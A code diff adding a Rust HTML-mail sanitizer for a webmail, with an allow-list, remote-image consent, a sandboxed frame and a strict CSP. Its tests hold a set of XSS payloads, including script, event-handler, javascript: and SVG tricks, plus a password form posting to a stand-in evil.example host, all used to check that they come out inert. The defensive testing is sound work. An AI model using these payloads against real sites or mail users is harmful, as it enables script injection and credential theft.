@@ -1,0 +1,288 @@
+//! HTML mail, made safe to show.
+//!
+//! Hostile mail is the main threat to a webmail, so HTML passes an allow-list
+//! (ammonia, on html5ever's spec-compliant parser): no scripts, no event handlers, no
+//! forms, no SVG or MathML, no `<style>`, `<meta>`, `<base>` or `<iframe>`, no `style`
+//! attributes (they can load remote content and overlay the UI), and only `http`,
+//! `https` and `mailto` links, which open in a new tab without a referrer. Remote
+//! images are removed unless the user allowed them for this message; `cid:` images
+//! are kept for the caller to resolve to the message's own inline parts.
+//!
+//! The result is still shown only inside a sandboxed frame without `allow-scripts`,
+//! under the CSP of [`frame_document`]: the sanitizer and the sandbox each stop what
+//! the other might miss.
+
+use std::collections::HashSet;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use ammonia::Builder;
+
+/// Sanitized HTML and what was held back.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SafeHtml {
+    pub html: String,
+    /// Remote images removed because remote content was not allowed.
+    pub blocked_remote: usize,
+}
+
+/// Cleans `html` with the allow-list; `allow_remote` keeps `http(s)` images.
+pub fn sanitize(html: &str, allow_remote: bool) -> SafeHtml {
+    // ammonia wants a thread-safe filter; the count is read once cleaning is done.
+    let blocked = Arc::new(AtomicUsize::new(0));
+    let counter = Arc::clone(&blocked);
+    let tags: HashSet<&str> = [
+        "a",
+        "abbr",
+        "b",
+        "blockquote",
+        "br",
+        "caption",
+        "center",
+        "cite",
+        "code",
+        "col",
+        "colgroup",
+        "dd",
+        "del",
+        "div",
+        "dl",
+        "dt",
+        "em",
+        "font",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "hr",
+        "i",
+        "img",
+        "ins",
+        "kbd",
+        "li",
+        "mark",
+        "ol",
+        "p",
+        "pre",
+        "q",
+        "s",
+        "small",
+        "span",
+        "strike",
+        "strong",
+        "sub",
+        "sup",
+        "table",
+        "tbody",
+        "td",
+        "tfoot",
+        "th",
+        "thead",
+        "tr",
+        "tt",
+        "u",
+        "ul",
+    ]
+    .into_iter()
+    .collect();
+    let html = Builder::default()
+        .tags(tags)
+        .generic_attributes(["align", "dir", "lang", "title"].into_iter().collect())
+        .tag_attributes(
+            [
+                ("a", ["href"].into_iter().collect()),
+                (
+                    "img",
+                    ["src", "alt", "width", "height"].into_iter().collect(),
+                ),
+                (
+                    "td",
+                    ["colspan", "rowspan", "valign", "width"]
+                        .into_iter()
+                        .collect(),
+                ),
+                (
+                    "th",
+                    ["colspan", "rowspan", "valign", "width"]
+                        .into_iter()
+                        .collect(),
+                ),
+                (
+                    "table",
+                    ["width", "cellpadding", "cellspacing"]
+                        .into_iter()
+                        .collect(),
+                ),
+                ("font", ["color", "size"].into_iter().collect()),
+                ("ol", ["start", "type"].into_iter().collect()),
+            ]
+            .into_iter()
+            .collect(),
+        )
+        .url_schemes(
+            ["http", "https", "mailto", "cid", "data"]
+                .into_iter()
+                .collect(),
+        )
+        .link_rel(Some("noopener noreferrer"))
+        .set_tag_attribute_value("a", "target", "_blank")
+        .attribute_filter(move |element, attribute, value| {
+            let lower = value.trim().to_ascii_lowercase();
+            match (element, attribute) {
+                ("img", "src") => {
+                    if lower.starts_with("cid:") || is_data_image(&lower) {
+                        Some(value.into())
+                    } else if allow_remote
+                        && (lower.starts_with("https:") || lower.starts_with("http:"))
+                    {
+                        Some(value.into())
+                    } else {
+                        counter.fetch_add(1, Ordering::Relaxed);
+                        None
+                    }
+                }
+                // Links go only to the web or to a mail composer.
+                ("a", "href")
+                    if !(lower.starts_with("http:")
+                        || lower.starts_with("https:")
+                        || lower.starts_with("mailto:")) =>
+                {
+                    None
+                }
+                _ => Some(value.into()),
+            }
+        })
+        .clean(html)
+        .to_string();
+    SafeHtml {
+        html,
+        blocked_remote: blocked.load(Ordering::Relaxed),
+    }
+}
+
+/// Raster images only: an SVG `data:` URL could carry script.
+fn is_data_image(lower: &str) -> bool {
+    [
+        "data:image/png",
+        "data:image/jpeg",
+        "data:image/gif",
+        "data:image/webp",
+    ]
+    .iter()
+    .any(|p| lower.starts_with(p))
+}
+
+/// The whole document for a sandboxed frame's `srcdoc`: a CSP that allows no script,
+/// no connection and no form, and images only from `data:` (plus `https:` when remote
+/// content is allowed).
+pub fn frame_document(safe: &SafeHtml, allow_remote: bool) -> String {
+    let images = if allow_remote {
+        "data: https: http:"
+    } else {
+        "data:"
+    };
+    format!(
+        "<!DOCTYPE html><html><head><meta charset=\"utf-8\">\
+<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src {images}; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'\">\
+<meta name=\"referrer\" content=\"no-referrer\">\
+<style>body{{font-family:system-ui,sans-serif;margin:0.5rem;overflow-wrap:anywhere}}img{{max-width:100%;height:auto}}</style>\
+</head><body>{}</body></html>",
+        safe.html
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The hostile set: everything here must come out inert.
+    const HOSTILE: &str = r#"
+<script>window.parent.pwned = 1</script>
+<img src=x onerror="window.parent.pwned=2">
+<body onload="pwned=3"><p onclick="pwned=4">click</p>
+<svg><animate onbegin="pwned=5" attributeName="x"/><script>pwned=6</script></svg>
+<math><mtext><img src=x onerror=pwned=7></mtext></math>
+<a href="javascript:pwned=8">js link</a>
+<a href="  JaVaScRiPt:pwned=9">js link 2</a>
+<a href="data:text/html,<script>pwned=10</script>">data link</a>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/">
+<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>
+<iframe src="https://evil.example/frame"></iframe>
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
+<link rel="stylesheet" href="https://evil.example/track.css">
+<style>body { background: url(https://evil.example/bg.png) } div { width: expression(alert(1)) }</style>
+<div style="background:url(https://evil.example/bg2.png); position:fixed; top:0">overlay</div>
+<img src="https://tracker.example/pixel.gif" width="1" height="1">
+<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
+<p>Hello <b>friend</b></p>
+"#;
+
+    #[test]
+    fn hostile_markup_comes_out_inert() {
+        let safe = sanitize(HOSTILE, false);
+        let lower = safe.html.to_ascii_lowercase();
+        for forbidden in [
+            "<script",
+            "onerror",
+            "onload",
+            "onclick",
+            "onbegin",
+            "<svg",
+            "<math",
+            "javascript:",
+            "data:text",
+            "<meta",
+            "<base",
+            "<form",
+            "<input",
+            "<iframe",
+            "<object",
+            "<embed",
+            "<link",
+            "<style",
+            "style=",
+            "expression(",
+            "evil.example",
+            "tracker.example",
+            "image/svg",
+            "pwned",
+        ] {
+            assert!(
+                !lower.contains(forbidden),
+                "{forbidden} survived: {}",
+                safe.html
+            );
+        }
+        assert!(safe.html.contains("Hello <b>friend</b>"));
+        // The tracker, the SVG data URL and `src=x`; the image inside <math> goes with it.
+        assert_eq!(safe.blocked_remote, 3);
+    }
+
+    #[test]
+    fn links_open_safely_and_remote_images_need_consent() {
+        let html = r#"<a href="https://example.com/a">a</a><img src="https://example.com/i.png"><img src="cid:logo@x">"#;
+        let blocked = sanitize(html, false);
+        assert!(blocked.html.contains(r#"href="https://example.com/a""#));
+        assert!(blocked.html.contains(r#"rel="noopener noreferrer""#));
+        assert!(blocked.html.contains(r#"target="_blank""#));
+        assert!(!blocked.html.contains("i.png"));
+        assert!(blocked.html.contains("cid:logo@x"));
+        assert_eq!(blocked.blocked_remote, 1);
+
+        let allowed = sanitize(html, true);
+        assert!(allowed.html.contains("https://example.com/i.png"));
+        assert_eq!(allowed.blocked_remote, 0);
+    }
+
+    #[test]
+    fn the_frame_document_forbids_script_and_connections() {
+        let document = frame_document(&sanitize("<p>hi</p>", false), false);
+        assert!(document.contains("default-src 'none'"));
+        assert!(document.contains("img-src data:;"));
+        assert!(!document.contains("script-src"));
+        assert!(document.contains("<p>hi</p>"));
+    }
+}
